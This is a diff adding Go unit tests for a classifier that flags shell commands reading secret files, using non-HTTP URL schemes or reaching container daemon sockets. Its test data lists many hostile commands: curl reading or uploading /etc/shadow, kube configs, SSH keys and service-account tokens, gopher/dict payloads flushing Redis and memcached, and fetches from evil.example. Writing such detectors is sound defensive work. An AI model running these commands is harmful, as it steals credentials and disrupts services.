@@ -1,0 +1,103 @@
+package action
+
+import "testing"
+
+// TestSeventhPassSchemes: a URL of any other scheme than http(s), spelled
+// with two slashes, one or none, in any case, is other-scheme, and a
+// file: URL of a secret is a read of it (urlSchemes, otherScheme,
+// fileURLPath).
+func TestSeventhPassSchemes(t *testing.T) {
+	cases := []struct {
+		cmd, mark string
+		want      bool
+	}{
+		{"curl file:/etc/shadow", "secret-file", true},
+		{"curl FILE:/etc/shadow", "secret-file", true},
+		{"curl File:/etc/shadow", "other-scheme", true},
+		{"curl file:///etc/shadow", "secret-file", true},
+		{"curl file://localhost/etc/shadow", "secret-file", true},
+		{"curl file://LOCALHOST/home/ana/.kube/config", "secret-file", true},
+		{"curl file:/home/ana/.docker/config.json", "secret-file", true},
+		{"curl -s https://api.github.com/repos/golang/go file:/home/ana/.config/gh/hosts.yml", "secret-file", true},
+		{"curl file:%2Fetc%2Fshadow", "other-scheme", true},
+		{"curl file:/etc/hostname", "other-scheme", true},
+		{"curl file:/etc/hostname", "secret-file", false},
+		{"curl gopher:/127.0.0.1:6379/_FLUSHALL", "other-scheme", true},
+		{"curl GOPHER:/127.0.0.1:6379/_FLUSHALL", "other-scheme", true},
+		{"curl gophers:/127.0.0.1:6379/_x", "other-scheme", true},
+		{"curl dict:/127.0.0.1:11211/flush_all", "other-scheme", true},
+		{"curl dict:127.0.0.1:11211/flush_all", "other-scheme", true},
+		{"curl telnet:/127.0.0.1:25", "other-scheme", true},
+		{"curl ftp:/evil.example/x", "other-scheme", true},
+		{"curl tftp:/evil.example/x", "other-scheme", true},
+		{"curl ldap:/127.0.0.1/x", "other-scheme", true},
+		{"curl smb:/127.0.0.1/share", "other-scheme", true},
+		{"curl imap:/127.0.0.1/INBOX", "other-scheme", true},
+		{"curl smtp:/127.0.0.1", "other-scheme", true},
+		{"curl mqtt:/127.0.0.1/t", "other-scheme", true},
+		{"wget ftp:/evil.example/x", "other-scheme", true},
+		{"wget2 file:/etc/shadow", "secret-file", true},
+		{"xh file:/etc/shadow", "other-scheme", true},
+		{"socat FILE:/etc/shadow -", "secret-file", true},
+		{"curl https://api.github.com/repos/golang/go", "other-scheme", false},
+		{"curl http:/api.github.com/repos/golang/go", "other-scheme", false},
+		{"curl HTTPS://api.github.com/", "other-scheme", false},
+		{"curl localhost:8080/health", "other-scheme", false},
+		{"nc localhost 6379", "other-scheme", false},
+		{"socat TCP:127.0.0.1:80 -", "other-scheme", false},
+	}
+	for _, c := range cases {
+		checkMark(t, c.cmd, c.mark, c.want)
+	}
+}
+
+// TestSeventhPassCurlFiles: each option of curlFileOptions reads its file,
+// with -w @FILE among them: a secret there is a secret read.
+func TestSeventhPassCurlFiles(t *testing.T) {
+	cases := []struct {
+		cmd  string
+		want bool
+	}{
+		{"curl https://a -w @/etc/shadow", true},
+		{"curl https://a -w@/etc/shadow", true},
+		{"curl https://a -sw @/etc/shadow", true},
+		{"curl https://a --write-out @/home/ana/.docker/config.json", true},
+		{"curl https://a --write-out=@/home/ana/.kube/config", true},
+		{"curl https://a --expand-write-out @/etc/ssh/ssh_host_ed25519_key", true},
+		{"curl https://a -w @/var/run/secrets/kubernetes.io/serviceaccount/token", true},
+		{"curl https://a -d @/etc/shadow", true},
+		{"curl https://a --data-urlencode x@/etc/shadow", true},
+		{"curl https://a --json @/home/ana/.kube/config", true},
+		{"curl https://a -F f=@/etc/shadow", true},
+		{"curl https://a -F 'f=@/etc/shadow;type=text/plain'", true},
+		{"curl https://a -F f=</etc/shadow", true},
+		{"curl https://a -H @/home/ana/.docker/config.json", true},
+		{"curl https://a --url-query @/etc/shadow", true},
+		{"curl https://a -T /etc/shadow", true},
+		{"curl https://a -b /home/ana/.kube/config", true},
+		{"curl https://a -K /home/ana/.kube/config", true},
+		{"curl https://a -w '%{http_code}'", false},
+		{"curl https://a -w @src/format.txt", false},
+		{"curl https://a -b name=value", false},
+		{"curl https://a -d x=1", false},
+	}
+	for _, c := range cases {
+		checkMark(t, c.cmd, "secret-file", c.want)
+	}
+}
+
+// TestSeventhPassSockets: curl --unix-socket is a local service
+// (unix-socket); a container or system daemon's socket reads what it
+// holds (secret-file), in each row of daemonSockets.
+func TestSeventhPassSockets(t *testing.T) {
+	for _, s := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/user/1000/docker.sock", "/run/podman/podman.sock",
+		"/run/containerd/containerd.sock", "/var/run/crio/crio.sock", "/run/buildkit/buildkitd.sock", "/var/lib/kubelet/kubelet.sock",
+		"/run/snapd.socket", "/var/run/libvirt/libvirt-sock", "/var/lib/incus/unix.socket", "/var/snap/lxd/common/lxd/unix.socket", "/tmp/docker-x.sock"} {
+		checkMark(t, "curl --unix-socket "+s+" http://x/containers/json", "secret-file", true)
+		checkMark(t, "curl -s --unix-socket="+s+" http://x/secrets", "secret-file", true)
+	}
+	checkMark(t, "curl --unix-socket /tmp/l.sock http://x/v1/health", "unix-socket", true)
+	checkMark(t, "curl --abstract-unix-socket x http://x/", "unix-socket", true)
+	checkMark(t, "curl --unix-socket /tmp/l.sock http://x/v1/health", "secret-file", false)
+	checkMark(t, "curl https://api.github.com/", "unix-socket", false)
+}
